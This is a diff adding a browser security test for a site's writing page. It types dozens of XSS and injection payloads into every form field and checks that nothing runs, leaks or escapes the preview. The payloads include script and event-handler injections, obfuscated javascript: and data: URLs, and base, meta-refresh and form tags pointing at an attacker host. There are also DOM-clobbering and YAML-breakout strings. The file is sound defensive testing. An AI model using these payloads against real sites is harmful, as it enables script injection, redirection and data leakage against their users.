@@ -1,0 +1,192 @@
+/**
+ * An attacker at the writing page: every vector of the "content is never code" review (test/security/attacks/
+ * vectors.ts, each postmortem an attacker could commit) and the browser's own classics (script, handlers,
+ * `javascript:` and `data:` URLs, SVG, frames, `<base>`, `<meta refresh>`, forms, styles, remote images, ids that
+ * would clobber the page's) typed into every text field of the form and into the body. For each, in the real
+ * browser on the built site:
+ * - no script runs: a handler or script that ran would set `window.__pwned`; run once under the site's CSP and once
+ *   with the CSP bypassed, so the renderer and the preview's guard are proven on their own;
+ * - no request leaves: nothing is asked of any host but the site (foreign requests are recorded and aborted);
+ * - nothing escapes the preview: the page outside the preview's shadow root keeps its head, its ids and its
+ *   elements, and the preview holds no script, frame, form, style, `<base>`, `<meta>` or handler;
+ * - no CSP violation is reported: nothing even tried to run.
+ */
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { attacks } from '../security/attacks/vectors.ts';
+import { launch } from './browser.ts';
+import { url } from './site.ts';
+
+const PWN = 'window.__pwned=1';
+
+/** Browser vectors: each would set `window.__pwned` or reach another host if it ever reached the DOM as markup. */
+const BROWSER_VECTORS: Record<string, string> = {
+  'script element': `<script>${PWN}</script>`,
+  'script in capitals': `<SCRIPT>${PWN}</SCRIPT>`,
+  'img onerror (HTML syntax)': `<img src=x onerror=${PWN}>`,
+  'img onerror (JSX syntax)': `<img src="x" onerror="${PWN}" />`,
+  'svg onload': `<svg onload="${PWN}"></svg>`,
+  'allowed element with a handler': `<abbr title="t" onmouseover="${PWN}">x</abbr>`,
+  'details ontoggle': `<details open ontoggle="${PWN}"><summary>s</summary>x</details>`,
+  'javascript: link': `[x](javascript:${PWN})`,
+  'javascript: link with entities': '[x](&#106;avascript&colon;window.__pwned=1)',
+  'javascript: link with a tab': '[x](java&#x09;script:window.__pwned=1)',
+  'javascript: in an allowed attribute': `<abbr title="javascript:${PWN}">x</abbr>`,
+  'data: URL link': '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)',
+  'data: image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+  'remote image': '![x](https://attacker.invalid/pixel.png)',
+  'protocol-relative image': '![x](//attacker.invalid/pixel.png)',
+  'reference-style remote image': '![x][p]\n\n[p]: https://attacker.invalid/ref.png',
+  'iframe srcdoc': `<iframe srcdoc="<script>${PWN}</script>"></iframe>`,
+  'object data': '<object data="https://attacker.invalid/x.swf"></object>',
+  'base href': '<base href="https://attacker.invalid/">',
+  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
+  'form action': '<form action="https://attacker.invalid/"><button>go</button></form>',
+  'style element': '<style>body{background:url(https://attacker.invalid/bg.png)}</style>',
+  'style attribute': '<mark style="background:url(https://attacker.invalid/s.png)">x</mark>',
+  'link prefetch': '<link rel="prefetch" href="https://attacker.invalid/p">',
+  'expression': `{${PWN}}`,
+  'ESM export': `export const x = ${PWN}`,
+  'raw HTML comment breaking out': '<!--><script>window.__pwned=1</script>-->',
+  'id clobbering the form': '<abbr id="w-title" title="x">x</abbr> <abbr id="w-body">y</abbr>',
+  'closing textarea and script': `</textarea><script>${PWN}</script>`,
+  'YAML breaking out of a quoted value': `x"\nstatus: published\n<script>${PWN}</script>\n---\n<img src=x onerror=${PWN}>`,
+  'Markdown autolink to javascript:': `<javascript:${PWN}>`,
+  'HTML entity smuggled script': '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
+};
+
+/** The postmortem texts of the review's attacks (their files that are not postmortems cannot be typed). */
+function reviewVectors(): Record<string, string> {
+  const out: Record<string, string> = {};
+  for (const [name, attack] of Object.entries(attacks('/tmp/never-written-by-the-browser'))) {
+    const main = Object.entries(attack.files).find(([path]) => path.endsWith('.mdx'));
+    if (main && typeof main[1] === 'string') out[`review: ${name}`] = main[1];
+  }
+  return out;
+}
+
+const TEXT_FIELDS = ['#w-title', '#w-summary', '#w-services', '#w-authors', '#w-tags', '#w-impact-financial', '#w-review-facilitator', '#w-related', '#w-slug'];
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await launch();
+});
+afterAll(async () => {
+  await browser?.close();
+});
+
+interface Watched {
+  page: Page;
+  violations: string[];
+  foreign: string[];
+}
+
+async function watched(bypassCSP: boolean): Promise<Watched> {
+  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, bypassCSP });
+  const origin = new URL(url()).origin;
+  const violations: string[] = [];
+  const foreign: string[] = [];
+  await context.route((u) => u.origin !== origin, async (route) => {
+    foreign.push(route.request().url());
+    await route.abort();
+  });
+  await context.exposeFunction('__reportCsp', (line: string) => violations.push(line));
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { __reportCsp(l: string): void }).__reportCsp(`${e.violatedDirective} ${e.blockedURI || 'inline'}`));
+  });
+  const page = await context.newPage();
+  await page.goto(url('write/'));
+  await page.waitForFunction(() => !!document.querySelector<HTMLFormElement>('form[data-write]')?.dataset['checked'], null, { timeout: 60_000 });
+  await page.click('[data-add="factors"]');
+  await page.click('[data-add="actionItems"]');
+  return { page, violations, foreign };
+}
+
+/** What must not change outside the preview: the head, the ids, the number of each kind of element. */
+function outside(page: Page): Promise<{ head: string; ids: string[]; counts: Record<string, number> }> {
+  return page.evaluate(() => {
+    const counts: Record<string, number> = {};
+    for (const tag of ['script', 'iframe', 'object', 'embed', 'base', 'meta', 'form', 'style', 'link', 'img', 'svg', 'input', 'textarea', 'select']) counts[tag] = document.querySelectorAll(tag).length;
+    return { head: document.head.innerHTML, ids: [...document.querySelectorAll('[id]')].map((e) => e.id).sort(), counts };
+  });
+}
+
+/** Problems inside the preview's shadow root: elements and attributes the renderer never makes. */
+function insidePreview(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const root = document.querySelector('[data-write-preview]')!.shadowRoot!;
+    const found: string[] = [];
+    const article = root.querySelector('.prose')!;
+    for (const el of article.querySelectorAll('*')) {
+      if (/^(script|iframe|object|embed|base|meta|form|style|link|svg|math|frame|frameset|template)$/.test(el.localName)) found.push(`<${el.localName}>`);
+      for (const a of el.attributes) {
+        if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc') found.push(`${a.name} on <${el.localName}>`);
+        if (/^(href|src|action|formaction|data|poster)$/.test(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) found.push(`${a.name}=${a.value} on <${el.localName}>`);
+      }
+    }
+    return found;
+  });
+}
+
+async function type(page: Page, text: string): Promise<void> {
+  for (const field of TEXT_FIELDS) await page.fill(field, text);
+  await page.fill('#w-factors-0-description', text);
+  await page.fill('#w-actionItems-0-title', text);
+  await page.fill('#w-actionItems-0-owner', text);
+  await page.fill('#w-body', text);
+  // Until the checker has answered for the last change (the page rebuilds the file on the next frame), and the
+  // preview has followed.
+  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
+  await page.waitForFunction(() => {
+    const form = document.querySelector<HTMLFormElement>('form[data-write]')!;
+    const posted = performance.getEntriesByType('mark').filter((m) => m.name.startsWith('write:input:')).length;
+    return Number(form.dataset['checked']) === posted && form.dataset['previewed'] === form.dataset['checked'];
+  }, null, { timeout: 60_000 });
+}
+
+describe('writing page under attack', () => {
+  const vectors = { ...BROWSER_VECTORS, ...reviewVectors() };
+
+  it('has the review\'s vectors and the browser\'s', () => {
+    expect(Object.keys(reviewVectors()).length).toBeGreaterThanOrEqual(15);
+    expect(Object.keys(vectors).length).toBeGreaterThanOrEqual(45);
+  });
+
+  for (const bypassCSP of [false, true]) {
+    describe(bypassCSP ? 'with the CSP bypassed: the renderer and the preview guard alone' : "under the site's CSP", () => {
+      let watch: Watched;
+      let before: Awaited<ReturnType<typeof outside>>;
+      beforeAll(async () => {
+        watch = await watched(bypassCSP);
+        before = await outside(watch.page);
+      });
+      afterAll(async () => {
+        await watch?.page.context().close();
+      });
+
+      for (const [name, text] of Object.entries(vectors)) {
+        it(`${name}: typed into every field, runs nothing, leaves nothing, changes nothing outside the preview`, async () => {
+          const { page } = watch;
+          await type(page, text);
+          expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
+          expect(await insidePreview(page)).toEqual([]);
+          const after = await outside(page);
+          expect(after.head).toBe(before.head);
+          expect(after.ids).toEqual(before.ids);
+          expect(after.counts).toEqual(before.counts);
+          expect(await page.evaluate(() => document.getElementById('w-title') instanceof HTMLInputElement)).toBe(true);
+          expect(watch.foreign).toEqual([]);
+          expect(watch.violations).toEqual([]);
+        });
+      }
+
+      it('still previews what is harmless (the guard does not just refuse everything)', async () => {
+        const { page } = watch;
+        await type(page, '## Executive Summary\n\nA *fine* paragraph with a [link](https://example.com/x) and <abbr title="service level objective">SLO</abbr>.\n');
+        await page.waitForFunction(() => !!document.querySelector('[data-write-preview]')!.shadowRoot!.querySelector('.prose abbr[title]'));
+        expect(watch.foreign).toEqual([]);
+        expect(watch.violations).toEqual([]);
+      });
+    });
+  }
+});
